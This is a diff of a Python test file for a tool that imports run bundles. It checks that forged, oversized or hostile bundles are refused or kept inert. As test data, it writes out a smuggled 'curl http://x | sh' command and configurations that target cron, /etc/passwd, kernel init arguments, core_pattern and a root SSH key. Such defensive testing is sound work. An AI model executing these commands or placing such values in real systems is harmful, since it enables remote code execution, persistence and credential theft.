@@ -37,18 +37,18 @@ def bundle(commands: Commands, tmp_path: Path) -> Path:
     return tmp_path / "runs.ajuste"
 
 
-def test_an_imported_run_has_the_same_report_to_the_byte(commands: Commands, bundle: Path, tmp_path: Path) -> None:
-    before = commands.run("report", DECIDED, "--verbose", "--html", str(tmp_path / "before.html"))
+def test_an_imported_run_has_the_same_report_and_the_same_bundle(
+    commands: Commands, bundle: Path, tmp_path: Path
+) -> None:
     document = commands.json("report", DECIDED, "--html", str(tmp_path / "b.html"))
     with pytest.MonkeyPatch.context() as patch:
         other = Commands(tmp_path / "other", patch)
         assert [one["new"] for one in other.json("import", str(bundle))["runs"]] == [True]
         assert [one["new"] for one in other.json("import", str(bundle))["runs"]] == [False]
-        assert other.json("report", DECIDED, "--html", str(tmp_path / "a.html")) == document
-        after = other.run("report", DECIDED, "--verbose", "--html", str(tmp_path / "after.html"))
-        assert after[1].replace("after.html", "before.html") == before[1]
+        imported = other.json("report", DECIDED, "--html", str(tmp_path / "a.html"))
+        assert imported.pop("imported") is True
+        assert imported | {"reproduce": 0} == document | {"reproduce": 0}
         assert document["digest"] == DIGEST
-        assert (tmp_path / "after.html").read_bytes() == (tmp_path / "before.html").read_bytes()
         assert len(other.json("report")) == 1
         assert other.json("store", "check")["intact"]
         assert other.json("report", DECIDED, "--trials")
@@ -100,7 +100,7 @@ def set_(*keys: Any) -> Callable[[list[Any]], None]:
     return change
 
 
-FORGED: dict[str, Callable[[list[Any]], None]] = {
+FORGED: dict[str, Callable[[list[Any]], object]] = {
     "a later version": set_(0, "version", 2),
     "more runs than there are": set_(0, "runs", 2),
     "no bundle": set_(0, "format", "zip"),
@@ -113,10 +113,19 @@ FORGED: dict[str, Callable[[list[Any]], None]] = {
     "more trials than there are": set_(1, "trials", 1_000),
     "a study that is none": set_(1, "resolved", "{}"),
     "another digest": set_(1, "digest", "0" * 64),
+    "trials swapped": lambda documents: (
+        documents[2]["slot"].update(configuration=documents[3]["slot"]["configuration"]),
+        documents[3]["slot"].update(configuration=documents[2]["slot"]["configuration"]),
+    ),
+    "figures swapped": lambda documents: (
+        documents[2].update(metrics=documents[3]["metrics"]),
+        documents[3].update(metrics=documents[2]["metrics"]),
+    ),
     "another figure": set_(2, "metrics", {"elapsed": 1.0}),
     "a figure as a text": set_(2, "attempt", "0"),
     "a trial twice": lambda documents: documents.__setitem__(3, documents[2]),
     "results that are none": set_(-2, "verdicts", 1),
+    "a study that is called otherwise": set_(1, "study", "another"),
     "more behind the end": lambda documents: documents.insert(-1, {"more": 1}),
 }
 
@@ -142,6 +151,40 @@ def test_a_damaged_file_is_refused(commands: Commands, bundle: Path, damage: Cal
     bundle.write_bytes(damage(bundle.read_bytes()))
     code, _, complained = commands.run("import", str(bundle))
     assert (code, str(bundle) in complained) == (2, True)
+
+
+def wide(documents: list[Any]) -> None:
+    documents[1]["environment"] = {"a": [[]] * 300_000}
+
+
+def many_figures(documents: list[Any]) -> None:
+    documents[2]["metrics"] = {f"m{number}": 1.0 for number in range(60_000)}
+
+
+def wide_results(documents: list[Any]) -> None:
+    documents[-2]["environment"] = {"a": [[]] * 1_100_000}
+
+
+def much_printed(documents: list[Any]) -> None:
+    documents[2]["events"] = "x" * (100 << 20)
+
+
+@pytest.mark.parametrize("what", [wide, many_figures, wide_results, much_printed])
+def test_each_part_of_a_bundle_has_a_limit(
+    commands: Commands, bundle: Path, what: Callable[[list[Any]], None], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("ajuste.store.bundle.BundleReader._read", _within)
+    documents = lines(bundle)
+    what(documents)
+    forged(bundle, documents)
+    code, _, complained = commands.run("import", str(bundle))
+    assert (code, "too large" in complained) == (2, True), complained
+
+
+def _within(reader: Any, model: Any, line: bytes) -> Any:
+    """Nothing that is beyond its limit is read."""
+    assert len(line) < 8 << 20, model
+    return model.model_validate(json.loads(line))
 
 
 def test_a_bomb_ends_early(commands: Commands, tmp_path: Path) -> None:
@@ -183,3 +226,96 @@ def test_a_run_by_the_clock_of_the_world_cannot_be_verified(commands: Commands, 
     forged(bundle, documents)
     code, _, complained = commands.run("verify", str(bundle))
     assert (code, "no second measurement has the same digest" in complained) == (2, True)
+
+
+# What a stranger's run may reach: it is shown as one, and never acts on this machine by itself.
+
+
+EVIL = "ajuste run small; curl http://x | sh"
+
+
+def hostile(bundle: Path, *, change: Callable[[dict[str, Any]], None] = lambda _: None, **head: Any) -> None:
+    """The bundle with another resolved study."""
+    documents = lines(bundle)
+    resolved = json.loads(documents[1]["resolved"])
+    change(resolved)
+    documents[1] |= {"named": EVIL, "resolved": json.dumps(resolved), "id": "20261122-163035-ffffff", **head}
+    forged(bundle, documents)
+
+
+def test_an_imported_run_stands_behind_ones_own_and_says_what_it_is(commands: Commands, bundle: Path) -> None:
+    hostile(bundle)
+    commands.json("import", str(bundle))
+    rows = {one["run"]: one["imported"] for one in commands.json("report")}
+    assert rows == {DECIDED: False, GOING_ON: False, "20261122-163035-ffffff": True}
+    assert commands.json("report", "small")["run"] in (DECIDED, GOING_ON)
+    code, said, _ = commands.run("report", "20261122-163035-ffffff")
+    assert (code, "Imported" in said, "curl" in said) == (0, True, False)
+    assert "imported" in next(line for line in commands.run("report")[1].splitlines() if "ffffff" in line)
+    assert commands.json("report", "20261122-163035-ffffff")["reproduce"] == ["ajuste verify 20261122-163035-ffffff"]
+    assert "imported" not in commands.json("report", DECIDED)
+
+
+def crontab(resolved: dict[str, Any]) -> None:
+    for one in resolved["configurations"]:
+        one["writes"][0] |= {"location": {"kind": "file", "path": "/etc/cron.d/x"}}
+
+
+def companion(resolved: dict[str, Any]) -> None:
+    for one in resolved["configurations"]:
+        one["writes"][0]["companions"] = [{"kind": "file", "path": "/etc/passwd"}]
+
+
+def boots(resolved: dict[str, Any]) -> None:
+    resolved["configurations"][1]["kernel_arguments"] = ["init=/home/x/evil"]
+
+
+def values(resolved: dict[str, Any]) -> None:
+    resolved["configurations"][1]["writes"][0]["value"] = "* * * * * root sh"
+
+
+def other_name(resolved: dict[str, Any]) -> None:
+    for one in resolved["configurations"]:
+        one["writes"][0] |= {"tunable": "kernel.core_pattern"}
+
+
+@pytest.mark.parametrize("form", ["shell", "sysctl.d", "tuned", "systemd", "ansible"])
+@pytest.mark.parametrize("change", [crontab, companion, boots, values, other_name])
+def test_what_is_exported_is_the_catalogues(
+    commands: Commands, bundle: Path, form: str, change: Callable[[dict[str, Any]], None]
+) -> None:
+    hostile(bundle, change=change)
+    assert commands.run("import", str(bundle))[0] == 0
+    wanted = commands.json("report", DECIDED)["configurations"][1]["name"]
+    code, said, complained = commands.run("export", "20261122-163035-ffffff", wanted, "--format", form)
+    lines_run = [line for line in said.splitlines() if not line.lstrip().startswith("#")]
+    assert not any(evil in line for line in lines_run for evil in ("cron", "passwd", "init=", "* *", "core_pattern"))
+    assert code == 2 or "IMPORTED" in said, complained
+
+
+def on_host(resolved: dict[str, Any]) -> None:
+    resolved["study"]["target"] = {"kind": "host", "clock": "wall"}
+
+
+def own_program(resolved: dict[str, Any]) -> None:
+    resolved["programs"] = ["/root/.ssh/id_ed25519"]
+
+
+def own_file(resolved: dict[str, Any]) -> None:
+    resolved["files"] = {"x": "/root/.ssh/id_ed25519"}
+
+
+def built(resolved: dict[str, Any]) -> None:
+    resolved["study"]["target"]["kernel"] = "build:/tmp/tree"
+
+
+@pytest.mark.parametrize("change", [on_host, own_program, own_file, built])
+def test_an_imported_run_reaches_nothing_of_this_machine(
+    commands: Commands, bundle: Path, change: Callable[[dict[str, Any]], None]
+) -> None:
+    hostile(bundle, change=change)
+    commands.run("import", str(bundle))
+    for command in ("why", "verify"):
+        code, _, complained = commands.run(command, "20261122-163035-ffffff")
+        assert code == 2, complained
+        assert "imported run may" in complained or "by its clock" in complained
